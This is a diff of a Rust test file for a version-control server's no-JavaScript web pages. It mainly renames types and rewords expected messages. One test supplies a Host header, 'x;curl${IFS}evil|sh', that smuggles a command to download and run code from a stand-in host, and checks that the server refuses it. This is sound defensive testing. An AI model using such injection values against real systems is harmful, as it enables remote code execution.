@@ -1,4 +1,4 @@
-//! The page, as a browser without a script gets it.
+//! Tests of the pages without JavaScript.
 
 use reqwest::StatusCode;
 use snap_core::{
@@ -9,23 +9,23 @@ use snap_core::{
     },
     disk::Disk,
     ops::commit,
-    repo::{Config, Repo, ref_name::RefName, refs::Change},
+    repo::{Config, Repo, ref_name::RefName, refs::RefLogMessage},
 };
-use snap_server::settings::Settings;
+use snap_server::settings::ServerSettings;
 
 use crate::{
     hostile,
     place::{Place, Serving, refused},
 };
 
-/// An answer to somebody with a browser.
+/// The response that a browser gets.
 pub(crate) struct Answer {
     pub(crate) status: StatusCode,
     pub(crate) headers: reqwest::header::HeaderMap,
     pub(crate) text: String,
 }
 
-/// Asks as a browser does.
+/// Sends a request as a browser does.
 pub(crate) async fn ask(serving: &Serving, path: &str) -> Answer {
     let accept = "text/html,application/xhtml+xml,*/*;q=0.8";
     let request = serving.client.get(format!("{}{path}", serving.origin()));
@@ -38,7 +38,7 @@ pub(crate) async fn ask(serving: &Serving, path: &str) -> Answer {
     }
 }
 
-/// A page that is there.
+/// Fetches a page and checks that it exists.
 pub(crate) async fn page(serving: &Serving, path: &str) -> String {
     let answer = ask(serving, path).await;
     assert_eq!(answer.status, StatusCode::OK, "{path}: {}", answer.text);
@@ -77,8 +77,8 @@ async fn labels_stand_in_the_list_of_commits() {
     fs_err::write(place.folder.path().join("files/a"), "second").unwrap();
     let labels = [("ci", "118"), ("nightly", "")];
     let labels = labels.map(|(key, value)| (key.to_owned(), value.to_owned())).into();
-    let options = commit::Options { labels, ..Default::default() };
-    let source = commit::Source::Folder(place.folder.path().join("files"));
+    let options = commit::CommitOptions { labels, ..Default::default() };
+    let source = commit::CommitSource::Folder(place.folder.path().join("files"));
     let id = commit::run(&place.repo, source, &options, &Silent).unwrap().id.unwrap();
     let serving = Serving::of(&place);
     let log = page(&serving, "/r/default").await;
@@ -141,7 +141,7 @@ async fn what_is_no_text_is_shown_as_what_it_is() {
     let raw = format!("<img src=\"/v1/repos/default/commits/{id}/files/dot.png\" alt=\"dot.png\">");
     assert!(of("dot.png").await.contains(&raw));
     let large = of("large.txt").await;
-    assert!(large.contains("it is 3.1 MiB in all") && large.len() < 20 << 20, "{}", large.len());
+    assert!(large.contains("The file has 3.1 MiB.") && large.len() < 20 << 20, "{}", large.len());
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -205,12 +205,12 @@ async fn each_of_many_repositories_is_looked_at() {
     assert!(first.contains("103 repositories") && first.contains("href=\"/?page=2\""), "{first}");
     assert!(first.contains("r099") && !first.contains("r100"), "{first}");
     let second = page(&serving, "/?page=2").await;
-    assert_eq!(second.matches("No commits yet").count(), 2, "{second}");
-    assert_eq!(second.matches("This repository is damaged").count(), 1, "{second}");
-    // Those who watch the server are told, too.
+    assert_eq!(second.matches("No commits yet").count(), 3, "{second}");
+    assert_eq!(second.matches("The branch <bdi>main</bdi> is damaged").count(), 1, "{second}");
+    // Monitoring reports the damage as well.
     let get = |path: &str| serving.client.get(format!("{}{path}", serving.origin()));
     let ready = get("/ready").send().await.unwrap();
-    assert_eq!(ready.status(), 200, "one repository keeps nobody from the others");
+    assert_eq!(ready.status(), 200, "one damaged repository does not make the server unready");
     assert_eq!(ready.text().await.unwrap(), "ready\n1 repository is damaged\n");
     let metrics = get("/metrics").send().await.unwrap().text().await.unwrap();
     assert!(metrics.contains("snap_damage_met_total{repository=\"r102\"} 1"), "{metrics}");
@@ -224,13 +224,14 @@ async fn commands_show_the_public_address_and_nothing_that_a_request_makes_up() 
         let ask = ask.header("host", host).header("accept", "text/html");
         ask.send().await.unwrap().text().await.unwrap()
     };
-    let open = Settings { without_tokens_anyone_may_read_and_write: true, ..Default::default() };
+    let open =
+        ServerSettings { without_tokens_anyone_may_read_and_write: true, ..Default::default() };
     let serving = Serving::start(&place, open.clone());
     assert!(shown(&serving, "a.example:80").await.contains("snap push http://a.example:80 main"));
     let made_up = shown(&serving, "x;curl${IFS}evil|sh").await;
     assert!(made_up.contains("`Host` is not a host") && !made_up.contains("curl"), "{made_up}");
     let public_url = Some("https://snap.example.org/".to_owned());
-    let serving = Serving::start(&place, Settings { public_url, ..open });
+    let serving = Serving::start(&place, ServerSettings { public_url, ..open });
     let told = shown(&serving, "a.example").await;
     assert!(told.contains("snap push https://snap.example.org main"), "{told}");
 }
@@ -248,7 +249,7 @@ async fn an_empty_place_says_what_to_do() {
 
 /// Moves a ref.
 fn point(place: &Place, name: &str, (from, to): (Option<CommitId>, Option<CommitId>)) {
-    let change = Change { time: Time::now(), who: "ada", reason: "test" };
+    let change = RefLogMessage { time: Time::now(), who: "ada", reason: "test" };
     let name = RefName::parse_full(name).unwrap();
     place.repo.refs().update(&name, from, to, &change).unwrap();
 }
@@ -268,7 +269,7 @@ async fn files_are_those_of_a_branch_that_was_pushed() {
     assert!(files.contains("href=\"/r/default/c/trunk/a\""), "{files}");
 }
 
-/// The same escapes as in an address.
+/// Percent-encodes a name as addresses do.
 fn escaped(name: &[u8]) -> String {
     let plain = |byte: &u8| byte.is_ascii_alphanumeric() || b"-._~".contains(byte);
     let one = |byte: &u8| match plain(byte) {
@@ -324,7 +325,7 @@ async fn hostile_names_and_contents_are_text() {
             assert!(!tag.contains("href=\"javascript:"), "{path}: <{tag}>");
         }
         for hidden in ['\u{202e}', '\u{200b}', '\u{1b}'] {
-            // The value of an option is not shown.
+            // The `value` of an option is not visible.
             let mut parts = text.split("<option value=\"");
             let first = parts.next().into_iter();
             let mut shown = first.chain(parts.filter_map(|part| Some(part.split_once('>')?.1)));
@@ -375,8 +376,8 @@ async fn two_commits_are_compared() {
         "2 &lt; 3",
         "<td class=\"sign\">−</td><td>two</td>",
         "<span class=\"unseen\">modified</span>",
-        "no end of line",
-        "No text: 0 B before, 2 B now.",
+        "no newline at end",
+        "Binary file: 0 B before, 2 B now.",
     ] {
         assert!(shown.contains(part), "{part}: {shown}");
     }
@@ -408,10 +409,10 @@ async fn paths_are_found_and_have_a_history() {
         ("*.txt", "2 paths"),
         ("sub/**", "2 paths"),
         ("other", "1 path"),
-        ("nothing", "No commit has such a path"),
-        ("%5B", "That is no pattern"),
+        ("nothing", "No commit contains a matching path"),
+        ("%5B", "The pattern is not valid"),
         ("", "A part of a name, or a pattern"),
-        ("%ff", "No commit has such a path"),
+        ("%ff", "No commit contains a matching path"),
     ] {
         let found = page(&serving, &format!("/r/default/search?q={query}")).await;
         assert!(found.contains(answer), "{query}: {found}");
@@ -442,7 +443,8 @@ async fn growth_is_counted_and_drawn() {
         shown.contains("<svg viewBox=\"0 0 960 300\" role=\"img\" aria-label=\"After 3 commits"),
         "{shown}"
     );
-    // 160,000 bytes three times, twice and once; the text once.
+    // Full copies: `a` in three commits, `b` in two, the text in one. After
+    // deduplication: the 160,000 bytes and the text, each once.
     for part in ["<dd>888.7 KiB</dd>", "<dd>263.7 KiB</dd>", "30 % of that"] {
         assert!(shown.contains(part), "{part}: {shown}");
     }
@@ -464,8 +466,8 @@ async fn pages_are_bounded_whatever_was_pushed() {
     }
     let labels = (0..200).map(|n| (format!("{n}"), odd[..1000].to_owned())).collect();
     let (message, author, host) = (odd.clone(), odd.clone(), odd);
-    let options = commit::Options { message, author, host, labels, ..Default::default() };
-    let source = commit::Source::Folder(place.folder.path().join("files"));
+    let options = commit::CommitOptions { message, author, host, labels, ..Default::default() };
+    let source = commit::CommitSource::Folder(place.folder.path().join("files"));
     let after = commit::run(&place.repo, source, &options, &Silent).unwrap().id.unwrap();
     let serving = Serving::of(&place);
     for (path, most) in [
@@ -486,7 +488,7 @@ async fn pages_are_bounded_whatever_was_pushed() {
     assert_eq!(ask(&serving, &format!("/r/default/c/main/{long}")).await.status, 400);
 }
 
-/// Damages all that a pack holds.
+/// Overwrites all frames of a pack with zeros.
 fn damage(place: &Place, id: &PackId) {
     let store = place.repo.store();
     let (outline, path) = (store.outline(id).unwrap(), store.pack_path(id));
@@ -532,6 +534,6 @@ async fn growth_that_cannot_be_counted_is_said_to_be() {
     let serving = Serving::of(&place);
     for _ in 0..2 {
         let shown = page(&serving, "/r/default/stats").await;
-        assert!(shown.contains("<h1>That could not be counted</h1>"), "{shown}");
+        assert!(shown.contains("<h1>Statistics are not available</h1>"), "{shown}");
     }
 }
